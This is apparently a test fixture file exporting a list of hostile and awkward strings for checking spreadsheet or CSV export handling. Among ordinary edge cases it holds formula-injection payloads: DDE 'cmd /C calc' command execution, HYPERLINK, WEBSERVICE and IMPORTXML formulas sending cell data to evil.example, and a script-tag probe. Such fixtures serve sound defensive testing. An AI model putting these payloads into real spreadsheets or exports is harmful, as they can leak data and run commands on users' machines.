const TEXTS = [
  '=1+1', '=SUM(A1:A9)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1,"Click")', '@SUM(1+1)', '+1+1', '-1+1',
  '-2+3+cmd|\' /C calc\'!A0', '|calc', '%0A=1+1', '\t=1+1', '\n=1+1', '\r=1+1', '\r\n=1+1', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1',
  '＝1+1', '＋1', '－1', '＠SUM(1)', '"=1+1"', '\'=1+1', '=1+1;=2+2', 'x,=1+1', 'x;=1+1', 'x\n=1+1', 'x\r\n=1+1', '","=1+1', '";"=1+1',
  '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://evil.example","//a")', '{=1+1}', '=@A1', '==1', '=-1', '+=1', '-=1',
  '007', '0123456789', '1e5', '1E400', '-5', '+4712345678', '12345678901234567890', '1.0', '1.50', '1,5', '1 000', '1,000.00', '1.000,00', '0x10', '1/2',
  '1-2', '3/4/2026', '2026-03-01', '01.02.2026', '12:30', '1:2:3', 'MAR1', '1-MAR', 'SEPT2', 'Jan 5', '5. mai', 'TRUE', 'false', '$5', '€ 5', '50%', '(5)',
  '42', '0', '1.5e3', '#REF!', '#N/A', 'Berg & Strand', 'Ærø <script>alert(1)</script>', '日本語', '😀 ok', 'a"b', 'say ""hi""', 'semi;colon', 'com,ma', 'tab\there',
  'line\nbreak', ' leading', 'trailing ', '’', '--', '++', '\u202e=1+1', 'null', 'NaN', 'Infinity', '-',
] // prettier-ignore

/** What people call themselves to do harm by way of a spreadsheet, or only have bad luck with one. */
export const HOSTILE: readonly string[] = TEXTS
